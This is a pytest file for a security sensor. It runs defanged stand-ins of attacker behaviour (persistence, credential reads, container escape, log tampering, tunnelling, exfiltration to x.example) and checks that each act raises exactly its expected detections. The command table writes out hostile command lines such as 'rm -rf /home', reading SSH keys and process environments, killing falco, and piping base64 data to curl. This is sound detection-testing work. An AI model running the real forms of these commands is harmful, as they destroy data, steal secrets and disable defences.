# SPDX-License-Identifier: Apache-2.0
"""Harmless acts in front of a real sensor, each with the very findings that it must give: privileges, credentials,
containers, persistence, traces, collection, destruction, other machines.

What would touch a file of the system is done in a mount namespace of its own, over an empty file system; programs that
would do harm are copies of true(1) under their names.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.evasion.runner import ROOM, Sensor

pytestmark = [pytest.mark.kernel, pytest.mark.slow, pytest.mark.timeout(600)]

TOLD = ("low", "medium", "high", "critical")
#: A finding comes within a second; a busy machine takes longer.
SETTLE_S = 5.0

#: A private /etc and what else of the system an act writes to; the shell's text follows as the last argument.
APART = """
unshare -m --propagation private sh -c '
for d in /etc /var/log /var/spool /usr/local; do mount -t tmpfs x $d || exit 9; done
mkdir -p /usr/local/lib/security /etc/init.d /etc/ssh /etc/audit/rules.d /etc/apparmor.d /var/log/journal /var/spool/at
. ./inner.sh'
"""
#: A control group with the name of a docker container's.
CONTAINED = """
root=$(grep -m1 " - cgroup2 " /proc/self/mountinfo | cut -d" " -f5)
group=$root/docker-$(printf "%064x" $$).scope
mkdir "$group" || exit 8
sh -c 'echo $$ >"$1/cgroup.procs" && unshare -m --propagation private sh ./inner.sh' x "$group"
code=$?
rmdir "$group"
exit $code
"""
QUERY = (
    "from socket import *; socket(AF_INET, SOCK_DGRAM).sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6)"
    " + b'\\x03abc\\x05ngrok\\x02io\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', 53))"
)

#: Programs of acts for which the shell has no words.
PROGRAMS = Path(__file__).with_name("acts")
INTERPRETER = os.path.realpath(sys.executable)
#: The interpreter in a place that no package put it to.
OWN = f'cp "{INTERPRETER}" p && PYTHONHOME={sys.base_prefix} LD_LIBRARY_PATH={sys.base_prefix}/lib ./p'
#: A network of one's own in which an address of documentation is this machine's.
NETWORK = "unshare -n sh -c 'ip link set lo up && ip address add 203.0.113.9/32 dev lo && . ./inner.sh'\n"
NO_DEVICES = "unshare -m --propagation private sh -c 'mount -t tmpfs x /dev && . ./inner.sh'\n"
LONG_NAME = "mzxw6ytboi2dqnrrgezdgnbvgy3tqojqmfrggzdfmztwq2lknnwg23tp.example"


def python(program: str) -> str:
    return f'"{INTERPRETER}" "{PROGRAMS}"/{program}'


#: detectors expected -> (how, text). `how` is the wrapper of the text, or empty.
ACTS: dict[str, tuple[str, str]] = {
    "startup_script_persistence": (APART, "echo x >/etc/init.d/x"),
    "sshd_config_change": (APART, "echo x >/etc/ssh/sshd_config"),
    "cron_persistence": (APART, "echo x >/var/spool/at/a01"),
    "pam_module_change": (APART, "echo x >/usr/local/lib/security/pam_x.so"),
    "audit_rules_file_change": (APART, "echo x >/etc/audit/rules.d/x.rules"),
    "selinux_apparmor_disable": (APART, "echo x >/etc/apparmor.d/x"),
    "log_tampering": (APART, "echo x >>/var/log/auth.log"),
    "python_startup_hook": ("", "echo >sitecustomize.py"),
    "git_hook_change": ("", "mkdir -p .git/hooks && echo >.git/hooks/pre-commit"),
    "systemd_unit_from_open_directory": ("", "cp /bin/true systemctl && ./systemctl enable /tmp/x.service"),
    "keylogger_bash_trap shell_startup_change": ("", "sh -c \"echo 'trap x DEBUG' >>./.bashrc\""),
    "credential_harvest": ("", "cp /bin/true pspy64 && ./pspy64"),
    "shadow_file_read": (
        "",
        "mkdir e && echo x >e/opasswd && "
        "unshare -m --propagation private sh -c 'mount --bind e /etc/security && tail -n1 /etc/security/opasswd'",
    ),
    "secret_file_read": ("", "mkdir .ssh && echo x >.ssh/id_dsa && tail -n1 .ssh/id_dsa"),
    "browser_store_read": ("", "echo x >key4.db && tail -n1 key4.db"),
    "environment_harvest": (
        "",
        'for i in 1 2 3 4 5; do sleep 5 & p="$p $!" l="$l /proc/$!/environ"; done; tail -qn1 $l >/dev/null; kill $p',
    ),
    "container_escape cgroup_left": (CONTAINED, "cp /bin/true insmod && ./insmod x.ko"),
    "container_mount cgroup_left": (CONTAINED, "mkdir m && mount -t cgroup2 x m"),
    "privileged_container": ("", "cp /bin/true docker && ./docker run --privileged x"),
    "container_socket_abuse": ("", "cp /bin/true curl && ./curl --unix-socket /run/docker.sock x"),
    "setns_owner user_namespace_created": (
        "",
        "setpriv --reuid 61234 --clear-groups unshare -U sleep 5 & sleep 1; nsenter -U -t $! true; kill $!",
    ),
    "setuid_exploit_pattern suspicious_exec_origin": (
        "",
        "p=/dev/shm/iwt-$$; cp /bin/dash $p; setpriv --reuid 61234 --clear-groups $p -c 'su --version; true'; rm $p",
    ),
    "capabilities_abuse": (
        "",
        "setpriv --reuid 61234 --clear-groups --inh-caps +setuid --ambient-caps +setuid cat /proc/self/comm",
    ),
    "system_user_interactive": (
        "",
        "echo exit | setpriv --reuid 997 --clear-groups script -qc 'bash --norc -i; true' /dev/null",
    ),
    "symlink_hijack": ("", "ln -s /etc/shadow x"),
    "shell_startup_change symlink_hijack": (
        "",
        "unshare -m --propagation private sh -c 'mount -t tmpfs x /root && echo >/root/.profile && "
        "cp /root/.profile /root/y && cp -l /root/.profile /root/x'",
    ),
    "history_cleared": ("", "echo x >.bash_history && rm .bash_history"),
    "history_disabled": ("", "env HISTFILE=/dev/null true"),
    "security_tool_killed": ("", "cp /bin/true pkill && ./pkill -9 falco"),
    "security_tool_stop": ("", "cp /bin/true setenforce && ./setenforce 0"),
    "rootkit_artifact": ("", "echo x >jynx2.so"),
    "timestomp_command": ("", "cp /bin/true touch && ./touch -r /bin/ls /usr/bin/x"),
    "data_destruction_pattern": ("", "cp /bin/true rm && ./rm -rf /home"),
    "sysrq_trigger": (
        "",
        "unshare -m --propagation private sh -c 'mount -t tmpfs x /proc && : >>/proc/sysrq-trigger'",
    ),
    "clipboard_read": ("", "cp /bin/true xclip && ./xclip -o"),
    "screen_capture": ("", "cp /bin/true scrot && ./scrot x.png"),
    "audio_video_capture": ("", "cp /bin/true arecord && ./arecord x.wav"),
    "archive_pwd_protected": ("", "cp /bin/true zip && ./zip -e x.zip x"),
    "automated_file_collection": ("", "cp /bin/true find && ./find /home -name '*.pdf' -exec cp x y ';'"),
    "lateral_egress_ssh": ("", "cp /bin/dash nginx && cp /bin/true ssh && ./nginx -c './ssh h; true'"),
    "lateral_egress_scp_rsync": ("", "cp /bin/true scp && ./scp -r /home h:x"),
    "c2_protocol_tunneling": ("", "cp /bin/true chisel && ./chisel client h:1"),
    "ssh_tunnel": ("", "cp /bin/true ssh && ./ssh -fNR 1:h:2 h"),
    "c2_web_tunnel": ("", "cp /bin/true ngrok && ./ngrok http 80"),
    "mesh_network_joined": ("", "cp /bin/true tailscaled && ./tailscaled"),
    "tunnel_name_lookup": ("", f'"{sys.executable}" query.py'),
    "kernel_keyring_read": ("", python("key.py")),
    "mining_pool_connect": (NETWORK, python("connect.py 203.0.113.9 14444")),
    "log_deletion": (APART, "echo x >/var/log/x.log && rm /var/log/x.log"),
    "dns_null_query": ("", python("ask.py 10 a.example")),
    "dns_text_query_by_interpreter": ("", python("ask.py 16 a.example")),
    "encoded_dns_name": ("", python(f"ask.py 1 {LONG_NAME}")),
    "dns_tunneling_slow dns_tunneling": (
        "",
        f"{python('ask.py 1')} "
        "$(for n in $(seq 160); do echo $n | sha256sum | cut -c1-40 | sed s/$/.data-carried.example/; done)",
    ),
    "tls_from_writable_place suspicious_exec_origin": (
        NETWORK,
        f"{python('listen.py 203.0.113.9 18443')} & sleep 1; p=/dev/shm/iwt-$$; cp $(command -v openssl) $p; "
        "timeout 5 $p s_client -connect 203.0.113.9:18443; rm $p",
    ),
    "probe_attached": ("", python("probe.py")),
    "raw_device_write": (NO_DEVICES, "echo x >/dev/md127"),
    "raw_memory_open": (NO_DEVICES, "echo x >/dev/kmem"),
    "authorized_keys_change": ("", "mkdir .ssh && echo x >.ssh/authorized_keys"),
    "systemd_persistence": (APART, "mkdir -p /etc/systemd/system && echo x >/etc/systemd/system/x.service"),
    "user_created": ("", "cp /bin/true useradd && ./useradd x"),
    "new_suid_execution file_permission_mod": (
        "",
        "cp /bin/true s && chmod u+s s && setpriv --reuid 61234 --clear-groups ./s",
    ),
    "unexplained_root": ("", f'{OWN} "{PROGRAMS}"/root_again.py'),
    "executable_stack": ("", python("stack.py")),
    "exploit_sequence executable_stack": (
        NETWORK,
        f"{python('listen.py 203.0.113.9 18444')} & sleep 1; {python('stack_then_connection.py 203.0.113.9 18444')}",
    ),
    "web_server_shell": ("", "cp /bin/dash nginx && ./nginx -c 'sh -c true; true'"),
    "shell_network_connect": ("", "cp /bin/dash nginx && ./nginx -c 'curl -s http://127.0.0.1:1/; true'"),
    "data_encoding": ("", "cp /bin/true curl && echo x | base64 | ./curl -d @- http://x.example/"),
    "discovery_anomaly discovery_burst": (
        "",
        "setsid -w sh -c 'for p in id whoami uname hostname ps who w df free uptime last groups; do $p; done; true'",
    ),
}
NEEDS = ("unshare", "nsenter", "setpriv", "script", "su", "mount", "ip", "openssl", "curl")


def mark(name: str) -> str:
    return f"iwt-{os.getpid()}-{name.partition(' ')[0].replace('_', '-')}"


def act(room: Path, name: str) -> subprocess.CompletedProcess[bytes]:
    """Do it in an empty directory of its own; every process of it has the mark among its ancestors."""
    how, text = ACTS[name]
    directory = room / mark(name)
    directory.mkdir()
    (directory / "inner.sh").write_text(text + "\n")
    (directory / "query.py").write_text(QUERY + "\n")
    (directory / "act.sh").write_text(how or ". ./inner.sh\n")
    command = ["/bin/sh", "act.sh", mark(name)]
    return subprocess.run(command, cwd=directory, capture_output=True, timeout=60, check=False)


Done = tuple[dict[str, subprocess.CompletedProcess[bytes]], list[str]]


@pytest.fixture(scope="module")
def done() -> Iterator[Done]:
    """What became of every act, and the lines of findings."""
    missing = [program for program in NEEDS if shutil.which(program) is None]
    if missing:
        pytest.skip(f"not installed: {', '.join(missing)}")
    ROOM.mkdir(parents=True, exist_ok=True)
    room = Path(tempfile.mkdtemp(prefix="iwt-", dir=ROOM))
    room.chmod(0o755)
    sensor = Sensor(room)
    try:
        results = {name: act(room, name) for name in ACTS}
        time.sleep(SETTLE_S)  # a finding too many would have come by now
        path = sensor.data / "findings.jsonl"
        yield results, path.read_text().splitlines() if path.exists() else []
    finally:
        sensor.stop()
        shutil.rmtree(room, ignore_errors=True)


@pytest.mark.parametrize("name", ACTS)
def test_an_act_gives_its_findings_and_no_others(done: Done, name: str) -> None:
    results, lines = done
    assert results[name].returncode == 0, results[name].stderr.decode()
    rows = [json.loads(line) for line in lines if mark(name) in line]
    assert {row["detector"] for row in rows if row["severity"] in TOLD} == set(name.split())
